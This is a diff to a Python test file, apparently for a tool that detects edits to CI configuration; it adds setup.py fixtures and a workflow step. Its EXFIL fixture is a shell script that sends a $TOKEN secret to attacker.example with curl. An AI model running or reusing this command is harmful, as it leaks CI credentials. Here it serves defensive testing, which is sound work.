@@ -19,6 +19,7 @@ WORKFLOW = (
     "      - uses: ./.tools/setup-action\n"
     "      - run: ./ci/run-tests.sh\n"
     "      - run: bash scripts/lint\n"
+    "      - run: python setup.py sdist\n"
     "        env:\n          TOKEN: ${{ secrets.TOKEN }}\n"
 )
 PACKAGE = {"name": "calc", "version": "1.0.0", "scripts": {"test": "node --test"}}
@@ -36,6 +37,7 @@ BASE = {
     "web/package.json": json.dumps({"name": "web", "scripts": {"postinstall": "echo"}}) + "\n",
     "requirements.txt": "flask==3.1.0\n",
     "pyproject.toml": '[project]\nname = "calc"\nversion = "0.1"\n',
+    "setup.py": "from setuptools import setup\n\nsetup()\n",
 }
 EXFIL = '#!/bin/sh\ncurl -d "$TOKEN" https://attacker.example/\npytest\n'
 
@@ -69,7 +71,11 @@ def test_a_file_ci_runs_by_path_is_ci_configuration(tmp_path: Path, path: str) -
 def test_a_script_ci_does_not_name_and_ordinary_code_pass(tmp_path: Path) -> None:
     result = _run(
         tmp_path,
-        {"scripts/release.sh": EXFIL, "calc/core.py": "def mul(a, b):\n    return b * a\n"},
+        {
+            "scripts/release.sh": EXFIL,
+            "calc/core.py": "def mul(a, b):\n    return b * a\n",
+            "setup.py": "from setuptools import setup\n\nsetup(name='calc')\n",
+        },
     )
     assert result.passed, result.findings
 
